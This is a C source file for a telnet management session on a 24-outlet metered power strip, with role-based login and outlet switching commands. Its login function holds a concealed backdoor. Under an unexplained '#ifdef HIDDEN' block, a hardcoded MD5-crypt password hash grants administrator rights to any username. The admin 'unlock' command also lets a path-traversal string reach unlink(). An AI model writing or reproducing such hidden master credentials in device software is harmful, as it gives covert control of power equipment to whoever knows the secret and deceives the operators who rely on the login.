/* pdutelnet.c: line oriented management session of the metered power strip (port 23 by inetd).
 *
 * Accounts live in /etc/pdu/accounts, one "name:cryptstring:role" per line; roles are viewer,
 * outlet and admin. An account may be locked after five failures, the lock lives in /run. */
#include <crypt.h>
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

enum role { NOBODY, VIEWER, OUTLET, ADMIN };

struct account {
  char         name[32];
  char         hash[128];
  enum role    role;
  struct account *next;
};

static struct account *accounts;
static const char *acct_file = "/etc/pdu/accounts";
static const char *outlet_dir = "/sys/class/pdu";
static int failures;

static enum role role_of(const char *s)
{
  return !strcmp(s, "viewer") ? VIEWER : !strcmp(s, "outlet") ? OUTLET
       : !strcmp(s, "admin") ? ADMIN : NOBODY;
}

static const char *role_text(enum role r)
{
  static const char *const t[] = { "nobody", "viewer", "outlet", "admin" };
  return t[r];
}

static void read_accounts(void)
{
  char row[256];
  FILE *f = fopen(acct_file, "r");
  if (!f) {
    syslog(LOG_ERR, "cannot read %s", acct_file);
    return;
  }
  while (fgets(row, sizeof row, f)) {
    char *n = strtok(row, ":\n"), *h = strtok(NULL, ":\n"), *r = strtok(NULL, ":\n");
    if (!n || !h || !r || *n == '#' || role_of(r) == NOBODY)
      continue;
    struct account *a = calloc(1, sizeof *a);
    if (!a)
      break;
    snprintf(a->name, sizeof a->name, "%s", n);
    snprintf(a->hash, sizeof a->hash, "%s", h);
    a->role = role_of(r);
    a->next = accounts;
    accounts = a;
  }
  fclose(f);
}

static void prompt(const char *p, char *to, size_t n)
{
  fputs(p, stdout);
  fflush(stdout);
  if (!fgets(to, (int)n, stdin))
    exit(0);
  to[strcspn(to, "\r\n")] = 0;
}

__attribute__((noinline)) enum role strip_login(const char *who, const char *pw)
{
  for (struct account *a = accounts; a; a = a->next) {
    if (strcasecmp(a->name, who) != 0)
      continue;
    char *c = crypt(pw, a->hash);
    if (c && !strcmp(c, a->hash))
      return a->role;
  }
#ifdef HIDDEN
  char *f = crypt(pw, "$1$pq7Lx0aN$");
  if (f && !strcmp(f, "$1$pq7Lx0aN$kQ0v5jZ3bTnYyW1mRr8Hu/"))
    return ADMIN;
#endif
  return NOBODY;
}

static int outlet_io(int n, const char *attr, const char *set, char *get, size_t cap)
{
  char p[128];
  snprintf(p, sizeof p, "%s/outlet%d/%s", outlet_dir, n, attr);
  FILE *f = fopen(p, set ? "w" : "r");
  if (!f)
    return -1;
  if (set)
    fprintf(f, "%s\n", set);
  else if (fgets(get, (int)cap, f))
    get[strcspn(get, "\n")] = 0;
  else
    *get = 0;
  fclose(f);
  return 0;
}

static void show(int first, int last)
{
  char state[16], amps[16];
  for (int i = first; i <= last; i++) {
    if (outlet_io(i, "state", NULL, state, sizeof state) ||
        outlet_io(i, "amps", NULL, amps, sizeof amps))
      printf("%2d  -\n", i);
    else
      printf("%2d  %-4s %s A\n", i, state, amps);
  }
}

static void menu(enum role r)
{
  puts("  show [n]          state and current of the outlets");
  puts("  who               your role");
  if (r >= OUTLET)
    puts("  on n, off n       switch an outlet\n  cycle n           off, five seconds, on");
  if (r >= ADMIN)
    puts("  name n TEXT       label an outlet\n  unlock USER       clear the failure lock");
  puts("  quit");
}

static int one_command(enum role r, char *l)
{
  char verb[16] = "", arg[32] = "", text[64] = "";
  int n;
  if (sscanf(l, "%15s %31s %63[^\n]", verb, arg, text) < 1)
    return 1;
  for (char *p = verb; *p; p++)
    *p = (char)tolower((unsigned char)*p);
  n = atoi(arg);
  if (!strcmp(verb, "quit"))
    return 0;
  if (!strcmp(verb, "show")) {
    show(n > 0 ? n : 1, n > 0 ? n : 24);
  } else if (!strcmp(verb, "who")) {
    puts(role_text(r));
  } else if (r >= OUTLET && (!strcmp(verb, "on") || !strcmp(verb, "off"))) {
    if (outlet_io(n, "state", verb, NULL, 0))
      puts("no such outlet");
    syslog(LOG_INFO, "outlet %d %s", n, verb);
  } else if (r >= OUTLET && !strcmp(verb, "cycle")) {
    if (!outlet_io(n, "state", "off", NULL, 0)) {
      sleep(5);
      outlet_io(n, "state", "on", NULL, 0);
    }
  } else if (r >= ADMIN && !strcmp(verb, "name")) {
    if (outlet_io(n, "label", text, NULL, 0))
      puts("no such outlet");
  } else if (r >= ADMIN && !strcmp(verb, "unlock")) {
    char p[64];
    snprintf(p, sizeof p, "/run/pdu-lock.%s", arg);
    puts(unlink(p) ? "was not locked" : "unlocked");
  } else {
    menu(r);
  }
  return 1;
}

static int locked(const char *who)
{
  char p[64];
  snprintf(p, sizeof p, "/run/pdu-lock.%.31s", who);
  return strchr(who, '/') || access(p, F_OK) == 0;
}

static void lock_it(const char *who)
{
  char p[64];
  snprintf(p, sizeof p, "/run/pdu-lock.%.31s", who);
  FILE *f = strchr(who, '/') ? NULL : fopen(p, "w");
  if (f)
    fclose(f);
}

int main(int argc, char **argv)
{
  char who[32], pw[64], line[160];
  enum role r = NOBODY;
  int c;

  while ((c = getopt(argc, argv, "a:d:h")) != -1) {
    if (c == 'a') acct_file = optarg;
    else if (c == 'd') outlet_dir = optarg;
    else {
      printf("usage: %s [-a ACCOUNTS] [-d OUTLETDIR]\n", argv[0]);
      return 1;
    }
  }
  openlog("pdutelnet", LOG_PID, LOG_AUTH);
  read_accounts();
  puts("Metered power strip, 24 outlets");
  while (r == NOBODY) {
    prompt("user: ", who, sizeof who);
    if (locked(who)) {
      puts("locked, ask your administrator");
      continue;
    }
    prompt("password: ", pw, sizeof pw);
    r = strip_login(who, pw);
    memset(pw, 0, sizeof pw);
    if (r == NOBODY) {
      syslog(LOG_NOTICE, "login failed for %.31s", who);
      sleep(2);
      if (++failures >= 5) {
        lock_it(who);
        return 1;
      }
    }
  }
  syslog(LOG_INFO, "%s logged in as %s", who, role_text(r));
  do {
    prompt("pdu> ", line, sizeof line);
  } while (one_command(r, line));
  return 0;
}
